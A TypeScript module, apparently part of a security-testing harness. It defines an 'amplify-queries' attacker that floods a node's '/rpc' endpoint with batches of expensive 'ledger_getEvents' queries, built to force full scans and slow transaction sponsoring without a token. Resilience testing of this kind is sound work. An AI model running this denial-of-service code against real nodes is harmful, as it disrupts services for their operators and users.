import { randomBytes } from 'node:crypto';
import type { Attacker } from '../attacker.js';

const CALLS_IN_BATCH = 50;

/** Criteria that a node without an index for them can answer only with a full scan. */
function costlyCall(id: number) {
  const stranger = `0x${randomBytes(32).toString('hex')}`;
  const criteria = [
    { Recipient: { AddressOwner: stranger } },
    { EventType: 'Publish' },
    { Object: stranger },
    { TimeRange: { startTime: 1, endTime: Date.now() } },
  ];
  const criterion = criteria[id % criteria.length];
  const params = [criterion, null, 1_000, 'Descending'];
  return { jsonrpc: '2.0', id, method: 'ledger_getEvents', params };
}

/** Sends small requests that cause much work at the node which also executes transactions. */
export const amplifyQueries: Attacker = {
  name: 'amplify-queries',
  aim: 'slow down sponsoring with queries of events, without a token',
  async run(_target, client) {
    await client.repeat(1_000, () => {
      const batch = Array.from({ length: CALLS_IN_BATCH }, (_, index) => costlyCall(index));
      return client.post('rpc', '/rpc', batch, undefined);
    });
  },
};
